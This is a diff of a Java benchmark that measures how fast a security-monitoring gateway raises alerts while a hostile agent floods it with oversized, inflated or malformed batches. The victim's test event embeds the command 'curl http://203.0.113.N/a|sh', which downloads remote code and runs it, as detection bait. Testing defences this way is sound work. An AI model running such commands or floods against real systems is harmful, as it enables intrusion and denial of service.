@@ -9,32 +9,28 @@ import bzh.vigie.collector.detect.finding.Cards;
 import bzh.vigie.collector.detect.finding.Ruling;
 import bzh.vigie.collector.detect.sigma.CompiledRules;
 import bzh.vigie.collector.detect.sigma.RuleSet;
+import bzh.vigie.collector.store.Alerts.Numbered;
 import bzh.vigie.collector.store.EventHistory;
 import bzh.vigie.collector.store.Scope;
 import bzh.vigie.collector.store.lucene.LuceneHistory;
-import bzh.vigie.event.Event;
-import bzh.vigie.event.Event.Change;
-import bzh.vigie.event.Event.ItemSeen;
 import bzh.vigie.event.Item;
-import bzh.vigie.event.ItemTimes;
-import bzh.vigie.event.Moment;
-import bzh.vigie.v1.EventBatch;
-import bzh.vigie.v1.Hello;
-import bzh.vigie.v1.LanePosition;
 import bzh.vigie.wire.EventCodec;
+import java.io.BufferedReader;
 import java.io.IOException;
+import java.io.OutputStream;
 import java.lang.management.ManagementFactory;
-import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
+import java.nio.file.Path;
+import java.security.GeneralSecurityException;
+import java.security.KeyStore;
+import java.security.cert.X509Certificate;
 import java.time.Duration;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.List;
 import java.util.Locale;
-import java.util.Optional;
-import java.util.Set;
-import java.util.concurrent.atomic.AtomicInteger;
-import java.util.concurrent.atomic.LongAdder;
-import java.util.stream.IntStream;
+import java.util.stream.Stream;
 
 /**
  * Time from a batch of one host to its alert, over connection, ingest log, detection and store, while nobody floods and while another host of its commune is
@@ -42,140 +38,43 @@ import java.util.stream.IntStream;
  */
 final class FloodFigures extends GatewayBench {
     private static final int ROUNDS = 21;
+    private static final int RUNS = Integer.getInteger("flood.runs", 3);
+    private static final int WARM_UPS = 5;
+    private static final int WARM_UP_MILLIS = 2_000;
 
     private int victims;
     private int agents;
 
-    /** What a hostile agent does again and again. */
-    private interface Attack {
-        void turn(Enrolled agent, int turn) throws IOException;
-    }
-
-    private Event seen(String name, String value, Item.Trait... traits) {
-        Item item = new Item(
-                "linux.cron.system",
-                List.of("T1053.003"),
-                "linux",
-                Optional.empty(),
-                name,
-                value,
-                "/etc/cron.d/" + name,
-                "",
-                Optional.empty(),
-                "",
-                Item.Signature.NOT_CHECKED,
-                "",
-                Item.Shipped.UNOWNED,
-                true,
-                ItemTimes.NONE,
-                List.of(),
-                "",
-                "",
-                "",
-                "",
-                "",
-                "",
-                "",
-                Set.of(traits));
-        return new ItemSeen(
-                new Moment(clock.instant(), "boot-1", 1), "linux.persistence", Change.ADDED, item, Optional.empty(), 1);
-    }
-
-    private byte[] items(int turn, int count, int length) {
-        return EventCodec.encode(IntStream.range(0, count)
-                .mapToObj(i -> seen("flood-" + turn + "-" + i, "/opt/" + "x".repeat(length)))
-                .toList());
-    }
-
-    private void connections(Enrolled agent, int turn) throws IOException {
-        List<TestClient> all = new ArrayList<>();
-        try {
-            for (int i = 0; i < 8; i++) {
-                all.add(connect(agent));
-            }
-        } finally {
-            for (TestClient each : all) {
-                each.close();
-            }
-        }
-    }
-
-    private void bytesInFlight(Enrolled agent, int turn) throws IOException {
-        byte[] part = ByteBuffer.allocate(900_000).putInt(1 << 20).array();
-        try (TestClient one = open(agent, 2 * turn);
-                TestClient two = open(agent, 2 * turn + 1)) {
-            one.raw(part);
-            two.raw(part);
-            Thread.onSpinWait();
-        }
-    }
-
-    private void largeItems(Enrolled agent, int turn) throws IOException {
-        send(agent, turn, items(turn, 250, 30_000));
-    }
-
-    private void manyItems(Enrolled agent, int turn) throws IOException {
-        send(agent, turn, items(turn, 1_000, 20));
-    }
-
-    private void inflated(Enrolled agent, int turn) throws IOException {
-        send(agent, turn, new byte[8 << 20]);
-    }
-
-    private void foreignWord(Enrolled agent, int turn) throws IOException {
-        EventBatch.Builder foreign =
-                EventBatch.parseFrom(EventCodec.encode(List.of(seen("foreign", "/opt/x")))).toBuilder();
-        foreign.getEventsBuilder(0).getItemSeenBuilder().getItemBuilder().setShipped("A".repeat(7_000_000));
-        send(agent, turn, foreign.build().toByteArray());
-    }
-
-    private void lanes(Enrolled agent, int turn) throws IOException {
-        Hello.Builder hello = hello(agent, turn);
-        for (int i = 0; i < 32; i++) {
-            hello.addReleased(LanePosition.newBuilder()
-                    .setEpoch(run(1_000 + 32 * turn + i))
-                    .setLane(1)
-                    .setNumber(9));
-        }
-        try (TestClient client = connect(agent)) {
-            client.send(hello);
-            client.welcome();
-        }
-    }
-
-    private void send(Enrolled agent, int turn, byte[] content) throws IOException {
-        try (TestClient client = open(agent, turn)) {
-            for (int i = 0; i < 4; i++) {
-                client.send(batch(4L * turn + i + 1, content));
-                client.acknowledged();
-            }
-        }
-    }
-
-    private long alerts(Enrolled victim) {
-        return store.read(session -> session.alerts().after(new Scope.All(), 0, 10_000)).stream()
+    private long alerts(long after, Enrolled victim) {
+        return store.read(session -> session.alerts().after(new Scope.All(), after, 1_000)).stream()
                 .filter(each -> each.alert().host().equals(victim.id()))
-                .count();
+                .mapToLong(Numbered::sequence)
+                .max()
+                .orElse(after);
     }
 
     /** Milliseconds from a batch of the victim to its alert, some times. */
     private List<Double> waits() throws IOException, InterruptedException {
         Enrolled victim = enrolled("mairie-" + ++victims);
         List<Double> millis = new ArrayList<>();
+        long last = store.read(session -> session.alerts().last());
         try (TestClient client = open(victim, 1)) {
             for (int round = 1; round <= ROUNDS; round++) {
-                byte[] content = EventCodec.encode(List.of(seen(
+                byte[] content = EventCodec.encode(List.of(Flood.seen(
+                        clock.instant(),
                         "victim-" + victims + "-" + round,
                         "curl http://203.0.113." + round + "/a|sh",
                         Item.Trait.NETWORK_TOOL,
                         Item.Trait.INLINE_SCRIPT)));
-                long before = alerts(victim);
                 long begun = System.nanoTime();
                 client.send(batch(round, content));
                 client.acknowledged();
-                while (alerts(victim) == before) {
+                long now = alerts(last, victim);
+                while (now == last) {
                     Thread.sleep(1);
+                    now = alerts(last, victim);
                 }
+                last = now;
                 millis.add((System.nanoTime() - begun) / 1e6);
                 Thread.sleep(50);
             }
@@ -183,48 +82,79 @@ final class FloodFigures extends GatewayBench {
         return millis;
     }
 
-    private List<Double> waitsDuring(List<Attack> attacks) throws IOException, InterruptedException {
+    private Path write(Enrolled agent) throws IOException {
+        Path file = dir.resolve(agent.id().text() + ".p12");
+        try (OutputStream out = Files.newOutputStream(file)) {
+            KeyStore store = KeyStore.getInstance("PKCS12");
+            store.load(null, null);
+            store.setKeyEntry("agent", agent.identity().pair().getPrivate(), new char[0], new X509Certificate[] {
+                agent.identity().certificate()
+            });
+            store.store(out, new char[0]);
+        } catch (GeneralSecurityException e) {
+            throw new IllegalStateException("a key of our own", e);
+        }
+        return file;
+    }
+
+    /** While a hostile agent does all that, in a process of its own. */
+    private List<Double> waitsDuring(Flood.Attack... attacks) throws IOException, InterruptedException {
         Enrolled hostile = enrolled("hostile-" + ++agents);
-        AtomicInteger turns = new AtomicInteger();
-        LongAdder sentAway = new LongAdder();
-        List<Thread> floods = attacks.stream()
-                .map(attack -> Thread.ofPlatform().start(() -> {
-                    while (!Thread.currentThread().isInterrupted()) {
-                        try {
-                            attack.turn(hostile, turns.incrementAndGet());
-                        } catch (IOException | AssertionError e) {
-                            sentAway.increment();
-                        }
-                    }
-                }))
-                .toList();
-        try {
-            while (turns.get() < 2 * attacks.size()) {
-                Thread.sleep(1);
+        List<String> command =
+                new ArrayList<>(List.of(System.getProperty("flood.bound", "").split(" ")));
+        command.removeIf(String::isEmpty);
+        command.addAll(List.of(
+                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
+                "-Xmx512m",
+                "-XX:+UseSerialGC",
+                "--enable-native-access=ALL-UNNAMED",
+                "-cp",
+                System.getProperty("java.class.path"),
+                Flood.class.getName(),
+                Integer.toString(gateway.address().getPort()),
+                write(hostile).toString(),
+                hostile.id().text(),
+                clock.instant().toString()));
+        Arrays.stream(attacks).map(Enum::name).forEach(command::add);
+        Process flood = new ProcessBuilder(command)
+                .redirectError(ProcessBuilder.Redirect.INHERIT)
+                .start();
+        try (BufferedReader said = flood.inputReader(StandardCharsets.UTF_8)) {
+            if (!"ready".equals(said.readLine())) {
+                throw new IllegalStateException("the flood did not begin");
             }
-            return waits();
+            Thread.sleep(WARM_UP_MILLIS);
+            List<Double> waits = waits();
+            flood.getOutputStream().close();
+            System.out.println("    " + said.readLine());
+            return waits;
         } finally {
-            for (Thread each : floods) {
-                each.interrupt();
-                each.join();
-            }
+            flood.destroy();
+            flood.waitFor();
         }
     }
 
-    private static double tell(String what, List<Double> millis, double quiet) {
-        List<Double> sorted = millis.stream().sorted().toList();
-        double median = sorted.get(sorted.size() / 2);
-        System.out.printf(
-                Locale.ROOT,
-                "%-16s median %8.1f ms   worst %8.1f ms   ratio of medians %6.1f%n",
-                what,
-                median,
-                sorted.getLast(),
-                median / quiet);
-        return median;
+    private static double median(List<Double> millis) {
+        return millis.stream().sorted().toList().get(millis.size() / 2);
     }
 
-    private void measure() throws IOException, InterruptedException {
+    /** Each time beside a quiet one, since the machine may be another's too. */
+    private void tell(String what, Flood.Attack... attacks) throws IOException, InterruptedException {
+        for (int run = 0; run < RUNS; run++) {
+            List<Double> quiet = waits();
+            List<Double> flooded = waitsDuring(attacks);
+            System.out.printf(
+                    Locale.ROOT,
+                    "%-16s quiet %7.1f ms   flooded %7.1f ms   worst %7.1f ms   ratio of medians %5.2f%n",
+                    what,
+                    median(quiet),
+                    median(flooded),
+                    flooded.stream().mapToDouble(Double::doubleValue).max().orElse(0),
+                    median(flooded) / median(quiet));
+        }
+    }
+
+    private void measure(List<Flood.Attack> attacks) throws IOException, InterruptedException {
         RuleSet rules = ShippedRules.load();
         Ruling ruling = new Ruling(new CompiledRules(rules.rules()), rules.correlations(), rules.onlyCorrelated());
         Cards cards = new Cards(rules.detectors());
@@ -247,30 +177,22 @@ final class FloodFigures extends GatewayBench {
                     Thread.currentThread().interrupt();
                 }
             });
-            waits();
-            double quiet = tell("quiet", waits(), Double.NaN);
-            tell("connections", waitsDuring(List.of(this::connections)), quiet);
-            tell("bytes-in-flight", waitsDuring(List.of(this::bytesInFlight)), quiet);
-            tell("hellos, lanes", waitsDuring(List.of(this::lanes)), quiet);
-            tell("inflated-bytes", waitsDuring(List.of(this::inflated)), quiet);
-            tell("foreign words", waitsDuring(List.of(this::foreignWord)), quiet);
-            tell("many items", waitsDuring(List.of(this::manyItems)), quiet);
-            tell("large items", waitsDuring(List.of(this::largeItems)), quiet);
-            tell(
-                    "all at once",
-                    waitsDuring(List.of(
-                            this::connections,
-                            this::bytesInFlight,
-                            this::lanes,
-                            this::inflated,
-                            this::foreignWord,
-                            this::manyItems,
-                            this::largeItems)),
-                    quiet);
-            tell("quiet again", waits(), quiet);
+            for (int i = 0; i < WARM_UPS; i++) {
+                waits();
+            }
+            for (Flood.Attack attack : attacks) {
+                tell(attack.name(), attack);
+            }
+            if (attacks.size() > 1) {
+                tell("ALL_AT_ONCE", attacks.toArray(Flood.Attack[]::new));
+            }
             pipeline.close();
             detection.join();
         }
+    }
+
+    private static String[] names() {
+        return Arrays.stream(Flood.Attack.values()).map(Enum::name).toArray(String[]::new);
     }
 
     public static void main(String[] arguments) throws IOException, InterruptedException {
@@ -278,7 +200,9 @@ final class FloodFigures extends GatewayBench {
         figures.dir = Files.createTempDirectory("floods");
         figures.open();
         try {
-            figures.measure();
+            figures.measure(Stream.of(arguments.length == 0 ? names() : arguments)
+                    .map(Flood.Attack::valueOf)
+                    .toList());
         } finally {
             figures.close();
         }
